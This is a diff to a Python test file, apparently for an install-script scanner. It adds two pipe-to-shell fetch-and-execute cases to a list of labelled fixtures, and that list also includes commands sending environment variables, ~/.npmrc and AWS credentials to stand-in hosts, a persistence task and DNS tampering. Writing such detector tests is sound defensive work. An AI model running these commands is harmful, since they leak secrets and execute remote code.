@@ -285,6 +285,8 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("pm2 start envd --name envd ; pm2 save --force ; pm2 startup", "install-script/scheduled-task"),
     ("curl -s -X POST --data \"$(env | base64)\" https://hooks.slack.com.invalid/services/T/B/x", "install-script/sends-secrets"),
     ("cat ~/.npmrc | curl -s -T - https://drop.example/u", "install-script/sends-secrets"),
+    ("curl -fsSL https://cdn.example/x.sh | /bin/sh", "install-script/fetch-and-execute"),
+    ("wget -qO- https://cdn.example/x.sh | /usr/bin/env bash", "install-script/fetch-and-execute"),
     ("wget -q --post-file=$HOME/.aws/credentials https://c.example/", "install-script/sends-secrets"),
     ("networksetup -setdnsservers Wi-Fi 203.0.113.53", "install-script/dns-tamper"),
     ("printf 'nameserver 203.0.113.53' > /etc/resolv.conf", "install-script/dns-tamper"),
